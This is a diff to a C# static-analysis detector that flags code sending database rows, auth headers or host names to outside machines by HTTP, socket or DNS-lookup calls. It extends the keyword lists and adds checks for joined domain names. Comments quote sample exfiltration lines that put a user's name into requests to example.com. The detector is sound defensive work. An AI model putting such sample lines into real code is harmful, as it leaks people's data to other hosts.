@@ -16,7 +16,7 @@ internal static class SentOn
     static readonly FrozenSet<string> Requests =
         FrozenSet.Create(StringComparer.Ordinal, "get", "head", "options", "get_response", "urlopen", "fetch", "gethostbyname", "gethostbyname_ex", "getaddrinfo",
             "getaddress", "lookup", "resolve4", "resolve", "resolve6", "resolveTxt", "resolveAny", "read_csv", "read_json", "read_table", "read_html", "read_xml",
-            "read_excel", "read_parquet", "get_print", "EventSource", "WebSocket");
+            "read_excel", "read_parquet", "get_print", "EventSource", "WebSocket", "create_connection", "get_server_certificate");
 
     /// <summary>What requests are made by.</summary>
     public static readonly FrozenSet<string> Clients =
@@ -26,7 +26,7 @@ internal static class SentOn
     /// <summary>Requests that look a name up.</summary>
     static readonly FrozenSet<string> Lookups =
         FrozenSet.Create(StringComparer.Ordinal, "gethostbyname", "gethostbyname_ex", "getaddrinfo", "getaddress", "lookup", "resolve", "resolve4", "resolve6",
-            "resolveTxt", "resolveAny", "resolveMx", "resolveNs", "resolveCname");
+            "resolveTxt", "resolveAny", "resolveMx", "resolveNs", "resolveCname", "create_connection", "get_server_certificate");
 
     /// <summary>Where each such request stands, and why it waits.</summary>
     public static IEnumerable<(int Position, string Why)> Problems(List<CodeToken> tokens, CodeFamily family)
@@ -38,12 +38,17 @@ internal static class SentOn
             && tokens.Index().Any(token => token.Item.Kind == CodeKind.Name && StoredRows.Are(tokens, token.Index, family));
         for (var at = 0; at + 1 < tokens.Count; at++)
         {
+            // TCPSocket.new("#{User.first.name}.example.com", 80), Faraday.new("http://example.com/#{User.first.name}")
+            if (family == CodeFamily.Ruby && tokens[at] is { Kind: CodeKind.String, Inner.Length: > 0 } && LeavesHome(tokens[at]) && Devices.Calling(tokens, at) is { } by
+                && by is "new" or "open" or "get" or "start" or "connect" or "URI" or "getaddress" && tokens[at].Inner.Any(HoldsRows))
+                yield return (tokens[at].Start, $"what a database holds may be sent to another machine by {by}");
             if (tokens[at].Kind != CodeKind.Name || !Requests.Contains(tokens[at].Text)
                 || !(tokens[at + 1].Is("(") || family == CodeFamily.Ruby && tokens[at + 1].Kind == CodeKind.String) || !IsRequest(tokens, at)) continue;
             var home = GoesHome(tokens, at + 1);
             if (HoldsVariable(tokens, at + 1) && (read || (kept || stored) && !home))
                 yield return (tokens[at].Start, $"what a file or a database holds may be sent to another machine by {tokens[at].Text}()");
-            else if (!home && Within(tokens, at + 1).Any(i => tokens[i].Kind == CodeKind.String && LeavesHome(tokens[i]))
+            else if (!home
+                && (Within(tokens, at + 1).Any(i => tokens[i].Kind == CodeKind.String && LeavesHome(tokens[i])) || Lookups.Contains(tokens[at].Text) && IsJoined(tokens, at + 1))
                 && (Within(tokens, at + 1).Any(i => StoredRows.IsOfSomebody(tokens, i) || TellsOfHere(tokens, i))
                     || tokens[at].Text is "get" or "head" or "options" or "fetch" && Within(tokens, at + 1).Any(i => IsBody(tokens, i))))
                 yield return (tokens[at].Start, $"what is told of somebody, or a file, may be sent to another machine by {tokens[at].Text}()");
@@ -60,10 +65,44 @@ internal static class SentOn
         if (at + 2 >= tokens.Count || !Carrying.Contains(tokens[at].Text) || tokens[at - 1].Text is not ("(" or "," or "{")) return false;
         if (!Is(tokens, at + 1, ":") && !(Is(tokens, at + 1, "=") && !Is(tokens, at + 2, "="))) return false;
         if (tokens[at].Text is "cert" || tokens[at].Text is "files" && tokens[at + 2].Is("{")) return true;
-        if (tokens[at + 2].Kind == CodeKind.Name) return IsVariable(tokens, at + 2);
+        if (tokens[at + 2].Kind == CodeKind.Name) return IsVariable(tokens, at + 2) || tokens[at].Text is not "headers" && IsAnswer(tokens, at + 2);
         var end = HandedFunctions.End(tokens, at + 2);
         return Enumerable.Range(at + 2, end - at - 2)
-            .Any(i => tokens[i].Kind == CodeKind.Name && IsVariable(tokens, i) && (tokens[at].Text is "auth" || IsHeld(tokens[i].Text)));
+            .Any(i => tokens[i].Kind == CodeKind.Name
+                && (IsVariable(tokens, i) && (tokens[at].Text is "auth" || IsHeld(tokens[i].Text) || ProvesWhoAsks(tokens, i) || IsPaired(tokens, i))
+                    || StoredRows.Are(tokens, i + 2 < tokens.Count && tokens[i + 1].Is(".") ? i + 2 : i, CodeFamily.Ruby) || IsCounted(tokens, i)));
+    }
+
+    // get_users(), with what it answers about people or rows; what computes a time or a number tells nothing.
+    static bool IsAnswer(List<CodeToken> tokens, int at) =>
+        Is(tokens, at + 1, "(") && Lexicon.WordsOf(tokens[at].Text) is ["get" or "fetch" or "list" or "load" or "read" or "find" or "export" or "dump", _, ..];
+
+    // headers={"Authorization": t}, [("a", x)]
+    static bool ProvesWhoAsks(List<CodeToken> tokens, int at) =>
+        at > 1 && tokens[at - 1].Is(":") && tokens[at - 2].Text.Trim('"', '\'').ToLowerInvariant()
+            is "authorization" or "proxy-authorization" or "cookie" or "x-api-key" or "x-auth-token"
+            or "x-vault-token" or "private-token";
+
+    static bool IsPaired(List<CodeToken> tokens, int at) =>
+        at > 3 && tokens[at - 1].Is(",") && tokens[at - 2].Kind == CodeKind.String && tokens[at - 3].Is("(") && tokens[at - 4].Text is "[" or ",";
+
+    static bool HoldsRows(string code) =>
+        new CodeLexer(code, CodeFamily.Ruby).Read() is { Problem: null } lexer
+            && Enumerable.Range(0, lexer.Tokens.Count)
+                .Any(at => lexer.Tokens[at].Kind == CodeKind.Name && (StoredRows.Are(lexer.Tokens, at, CodeFamily.Ruby) || IsCounted(lexer.Tokens, at)));
+
+    // User.count: how many there are of somebody's rows
+    static bool IsCounted(List<CodeToken> tokens, int at) =>
+        at + 2 < tokens.Count && tokens[at + 1].Is(".") && char.IsAsciiLetterUpper(tokens[at].Text[0])
+            && tokens[at + 2].Text is "count" or "sum" or "maximum" or "minimum" or "average";
+
+    /// <summary>A name under a domain that may be anybody's, which is put together of labels: <c>".".join([x, "example", "com"])</c>.</summary>
+    static bool IsJoined(List<CodeToken> tokens, int open)
+    {
+        var inside = Within(tokens, open).ToList();
+        if (!inside.Any(i => tokens[i].Is("join"))) return false;
+        var labels = inside.Where(i => tokens[i].Kind == CodeKind.String).Select(i => tokens[i].Text.Trim('"', '\'', '`')).Where(label => label.Trim('.').Length > 0).ToList();
+        return labels.Count > 1 && !OwnNetwork.Private.Has("x." + string.Join('.', labels));
     }
 
     /// <summary>Whether a variable by its name holds what was read, or what lets somebody in: <c>token</c>, <c>payload</c>.</summary>
@@ -73,17 +112,18 @@ internal static class SentOn
                 or "config" or "settings" or "token" or "key" or "result" or "results" or "lines" or "stdout"];
 
     /// <summary>A variable of that kind, or the name of this machine or its user.</summary>
-    static bool TellsOfHere(List<CodeToken> tokens, int at) =>
+    public static bool TellsOfHere(List<CodeToken> tokens, int at) =>
         tokens[at].Kind == CodeKind.Name
             && (tokens[at].Text is "gethostname" or "getfqdn" or "getuser" or "getlogin" or "uname" or "hostname" or "userInfo" && Is(tokens, at + 1, "(")
                 || IsVariable(tokens, at) && !Is(tokens, at + 1, ".") && IsHeld(tokens[at].Text))
         || tokens[at].Inner is { Length: > 0 } inner && LeavesHome(tokens[at]) && inner.Any(IsHeld);
 
     /// <summary>Whether a text is an address, or the end of a name, of a machine that may be anybody's: <c>"http://example.com/"</c>, <c>".example.com"</c>.</summary>
-    static bool LeavesHome(CodeToken token)
+    public static bool LeavesHome(CodeToken token)
     {
         var text = token.Text.AsSpan().TrimStart("rbufRBUF").Trim("\"'`").ToString();
         if (text.IndexOf("://", StringComparison.Ordinal) is >= 0 and var scheme) return !OwnNetwork.Private.Has(text[(scheme + 3)..].Split('/', '?', ':', '#')[0]);
+        if (text.StartsWith("%s.", StringComparison.Ordinal)) text = text[2..];
         var suffix = text.LastIndexOf('}') is >= 0 and var field ? text[(field + 1)..] : text;
         return suffix.StartsWith('.') && suffix.IndexOf('.', 1) > 0 && !suffix.Any(" /()[]".Contains) && !OwnNetwork.Private.Has("x" + suffix);
     }
